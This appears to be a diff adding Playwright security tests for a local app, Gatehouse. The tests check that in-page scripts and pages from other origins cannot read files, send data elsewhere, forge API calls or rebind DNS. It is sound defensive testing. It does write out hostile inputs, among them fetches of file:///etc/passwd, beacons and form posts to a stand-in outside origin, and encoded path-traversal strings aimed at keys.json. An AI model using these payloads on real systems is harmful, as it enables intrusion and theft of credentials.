@@ -1,0 +1,309 @@
+/** What a hostile script could do in the page if one ever ran there, and what a page of somebody else can do beside it. */
+import { expect } from '@playwright/test';
+import { test as base } from './fixtures/gateway-app.ts';
+import { expectNoKey, recordFrames } from './fixtures/key-search.ts';
+import { connectRpc } from './fixtures/rpc-client.ts';
+import { type Stranger, startStranger } from './fixtures/stranger.ts';
+
+const test = base.extend<{ stranger: Stranger }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads from it which fixtures are used
+  stranger: async ({}, use) => {
+    const stranger = await startStranger();
+    await use(stranger);
+    stranger.close();
+  },
+});
+
+test('a script in the page reaches no file, no other origin, and brings no further script', async ({
+  app,
+  stranger,
+}) => {
+  const before = app.url();
+  const reached = await app.evaluate(async (elsewhere) => {
+    const settled = async (name: string, attempt: () => unknown) => {
+      try {
+        await attempt();
+        return [name];
+      } catch {
+        return [];
+      }
+    };
+    /** Whether an element has loaded. */
+    const loads = (tag: string, attributes: Record<string, string>) =>
+      new Promise<void>((resolve, reject) => {
+        const element = document.createElement(tag);
+        element.onload = () => resolve();
+        element.onerror = () => reject(new Error(tag));
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        document.body.append(element);
+      });
+    const opens = (target: EventTarget) =>
+      new Promise<void>((resolve, reject) => {
+        target.addEventListener('open', () => resolve());
+        target.addEventListener('error', () => reject(new Error('closed')));
+      });
+    const marks = window as unknown as { owned?: string | undefined };
+    const owned = (name: string) => {
+      if (marks.owned === undefined) throw new Error('not run');
+      marks.owned = undefined;
+      return name;
+    };
+    const inserted = async (html: string) => {
+      const place = document.createElement('div');
+      place.innerHTML = html;
+      document.body.append(place);
+      for (const link of place.querySelectorAll('a')) link.click();
+      for (const script of place.querySelectorAll('script')) {
+        const copy = document.createElement('script');
+        copy.textContent = script.textContent;
+        document.body.append(copy);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      place.remove();
+      owned(html);
+    };
+    const inWorker = (code: string) =>
+      new Promise<void>((resolve, reject) => {
+        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+        const worker = new Worker(url);
+        worker.onmessage = ({ data }) => (data === 'read' ? resolve() : reject(new Error(data)));
+        worker.onerror = () => reject(new Error('worker'));
+      });
+    return (
+      await Promise.all([
+        settled('a file', () => fetch('file:///etc/passwd')),
+        settled('another origin', () => fetch(`${elsewhere}/fetch`)),
+        settled('another origin, unread', () => fetch(`${elsewhere}/blind`, { mode: 'no-cors' })),
+        settled('a socket', () =>
+          opens(new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)),
+        ),
+        settled('events', () => opens(new EventSource(`${elsewhere}/events`))),
+        settled('a worker', () =>
+          inWorker(
+            `fetch('${elsewhere}/worker').then(() => postMessage('read'), () => postMessage('kept out'))`,
+          ),
+        ),
+        settled('a file in a worker', () =>
+          inWorker(
+            `fetch('file:///etc/passwd').then(() => postMessage('read'), () => postMessage('kept out'))`,
+          ),
+        ),
+        settled('an image', () => loads('img', { src: `${elsewhere}/image.png` })),
+        settled('a script', () => loads('script', { src: `${elsewhere}/script.js` })),
+        settled('a style', () => loads('link', { rel: 'stylesheet', href: `${elsewhere}/a.css` })),
+        settled('a module', () => import(/* @vite-ignore */ `${elsewhere}/module.js`)),
+        settled('a module of data', () => import(/* @vite-ignore */ `data:text/javascript,${1}`)),
+        settled('a function of text', async () => {
+          // Playwright allows it in the task that it starts itself.
+          await new Promise((resolve) => setTimeout(resolve));
+          return new Function('return 1')();
+        }),
+        settled('an inline script', () => inserted('<script>window.owned = 1</script>')),
+        settled('a handler', () => inserted('<img src="/nothing" onerror="window.owned = 1">')),
+        settled('an address with a script', () =>
+          inserted('<a href="javascript:void(window.owned = 1)">x</a>'),
+        ),
+      ])
+    ).flat();
+  }, stranger.origin);
+  expect(reached).toEqual([]);
+
+  await app.evaluate((elsewhere) => {
+    navigator.sendBeacon(`${elsewhere}/beacon`, 'secret');
+    for (const tag of ['iframe', 'embed', 'object', 'video', 'audio']) {
+      const element = document.createElement(tag);
+      element.setAttribute(tag === 'object' ? 'data' : 'src', `${elsewhere}/${tag}`);
+      document.body.append(element);
+    }
+    const form = document.createElement('form');
+    Object.assign(form, { action: `${elsewhere}/form`, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    const base = document.createElement('base');
+    base.href = elsewhere;
+    document.head.append(base);
+  }, stranger.origin);
+  // A request of the page after all of these: they would have come by now.
+  expect(await app.evaluate(() => fetch('/').then(({ status }) => status))).toBe(200);
+  await app.waitForLoadState('networkidle');
+  expect(app.url()).toBe(before);
+  expect(stranger.visits).toEqual([]);
+});
+
+test('a script in the page gets no permission that the page does not use', async ({ app }) => {
+  // What a user would have to be asked for: with everything granted, only the page's own policy refuses.
+  await app.context().grantPermissions(['geolocation', 'camera', 'clipboard-read']);
+  const allowed = await app.evaluate(async () => {
+    const allows = async (name: string, attempt: () => unknown) =>
+      Promise.resolve()
+        .then(attempt)
+        .then(
+          () => [name],
+          () => [],
+        );
+    const device = (name: string, method: string) => {
+      const part: unknown = Reflect.get(navigator, name);
+      if (typeof part !== 'object' || part === null) throw new Error('not there');
+      return Reflect.apply(Reflect.get(part, method), part, [{ filters: [] }]);
+    };
+    const names = await Promise.all([
+      allows(
+        'place',
+        () =>
+          new Promise((resolve, reject) =>
+            navigator.geolocation.getCurrentPosition(resolve, reject),
+          ),
+      ),
+      allows('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
+      allows('screen', () => navigator.mediaDevices.getDisplayMedia()),
+      allows('clipboard', () => navigator.clipboard.readText()),
+      allows('USB', () => device('usb', 'getDevices')),
+      allows('HID', () => device('hid', 'getDevices')),
+      allows('serial', () => device('serial', 'getPorts')),
+      allows('MIDI', () => navigator.requestMIDIAccess()),
+    ]);
+    return names.flat();
+  });
+  expect(allowed).toEqual([]);
+});
+
+test('a script in the page is told no key, reads no file by a guess or a path, and forges no call', async ({
+  app,
+  gateway,
+}) => {
+  const frames = recordFrames(app);
+  await app.reload();
+  await expect(app.getByRole('combobox', { name: 'Connection' })).toBeEnabled();
+  const { api, close } = await connectRpc(app);
+  const answers: unknown[] = [
+    await api.connections.list(),
+    await api.system.info(),
+    await api.settings.get(),
+    await api.connections.test({ id: 'environment' }),
+  ];
+  // The key stays with its address: a script cannot have it sent to its own.
+  const update = { id: 'environment', name: 'Environment', baseUrl: 'http://127.0.0.1:9' };
+  await expect(api.connections.update(update)).rejects.toMatchObject({ code: 'APP_ERROR' });
+  for (const url of ['file:///etc/passwd', 'app://gatehouse/', `${new URL(app.url()).origin}/`]) {
+    await expect(api.media.fetchRemote({ url })).rejects.toMatchObject({ code: 'APP_ERROR' });
+  }
+  close();
+  expectNoKey(gateway.key, 'what main answers', JSON.stringify(answers));
+  expectNoKey(gateway.key, 'what main sends', frames.received.join('\n'));
+
+  const statuses = await app.evaluate(async () => {
+    const guessed = Array.from({ length: 20 }, () => {
+      const bytes = crypto.getRandomValues(new Uint8Array(16));
+      return btoa(String.fromCharCode(...bytes))
+        .replaceAll('+', '-')
+        .replaceAll('/', '_')
+        .slice(0, 22);
+    });
+    const paths = [
+      ...guessed.map((id) => `/media/${id}`),
+      '/media/..%2fgatehouse.sqlite',
+      '/media/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+      '/media/..%5c..%5ckeys.json',
+      '/..%2fkeys.json',
+      '/keys.json',
+      '/media/incoming',
+      `/media/${guessed[0]}/../../keys.json`,
+    ];
+    return Promise.all(paths.map(async (path) => (await fetch(path)).status));
+  });
+  expect(new Set(statuses)).toEqual(new Set([404]));
+});
+
+for (const name of ['127.0.0.1', 'localhost']) {
+  test(`a page of another origin at ${name} reads, writes and frames nothing of Gatehouse`, async ({
+    app,
+    host,
+    stranger,
+  }) => {
+    const { origin, port } = new URL(app.url());
+    expect(host.pid).toBeGreaterThan(0);
+    const { api, close } = await connectRpc(app);
+    const before = await api.connections.list();
+    const other = await app.context().newPage();
+    await other.goto(`http://${name}:${stranger.port}/`);
+    // It has the browser's cookies for this machine: for its own name and for Gatehouse's.
+    const got = await other.evaluate(
+      async ({ origins, media }) => {
+        const outcome = (attempt: Promise<unknown>) =>
+          attempt.then(
+            () => 'reached',
+            () => 'kept out',
+          );
+        const loads = (tag: 'img' | 'script' | 'audio', src: string) =>
+          new Promise((resolve, reject) => {
+            const element = document.createElement(tag);
+            element.onload = resolve;
+            element.onerror = reject;
+            if (element instanceof HTMLAudioElement) element.oncanplay = resolve;
+            element.src = src;
+            document.body.append(element);
+          });
+        const opens = (url: string) =>
+          new Promise((resolve, reject) => {
+            const socket = new WebSocket(url);
+            socket.onopen = resolve;
+            socket.onerror = reject;
+          });
+        const credentials = 'include' as const;
+        return Promise.all(
+          origins.flatMap((base) => [
+            outcome(fetch(base, { credentials })),
+            outcome(fetch(`${base}/media`, { method: 'POST', credentials })),
+            outcome(
+              fetch(`${base}/media`, { method: 'POST', credentials, mode: 'no-cors' }).then(
+                // Its answer cannot be read; that nothing was written is looked at below.
+                () => Promise.reject(new Error('opaque')),
+              ),
+            ),
+            outcome(opens(`${base.replace('http', 'ws')}/rpc`)),
+            outcome(loads('img', `${base}/icon.svg`)),
+            outcome(loads('script', `${base}${media}`)),
+            outcome(loads('audio', `${base}/media/AAAAAAAAAAAAAAAAAAAAAA`)),
+          ]),
+        );
+      },
+      { origins: [origin, `http://localhost:${port}`], media: '/assets/main.js' },
+    );
+    expect(new Set(got)).toEqual(new Set(['kept out']));
+
+    await other.evaluate((base) => {
+      const frame = document.createElement('iframe');
+      frame.src = base;
+      document.body.append(frame);
+    }, origin);
+    await expect.poll(() => other.frames().length).toBe(2);
+    await expect(other.frames()[1]?.locator('nav') ?? other.locator('nav')).toHaveCount(0);
+    expect(await api.connections.list()).toEqual(before);
+    expect((await api.media.list({ kind: null, before: null, limit: 10 })).media).toEqual([]);
+    close();
+  });
+}
+
+test('a name that somebody else makes lead to this machine opens nothing', async ({
+  app,
+  host,
+}) => {
+  const { port } = new URL(app.url());
+  expect(host.pid).toBeGreaterThan(0);
+  const other = await app.context().newPage();
+  // Chromium resolves every name below localhost to this machine, as a DNS server of an attacker would.
+  const reply = await other.goto(`http://rebound.localhost:${port}/`);
+  expect(reply?.status()).toBe(403);
+  const got = await other.evaluate(() =>
+    Promise.all([
+      fetch('/').then(({ status }) => status),
+      fetch('/media', { method: 'POST' }).then(({ status }) => status),
+      new Promise((resolve) => {
+        const socket = new WebSocket(`ws://${location.host}/rpc`);
+        socket.onopen = () => resolve('open');
+        socket.onerror = () => resolve('refused');
+      }),
+    ]),
+  );
+  expect(got).toEqual([403, 403, 'refused']);
+});
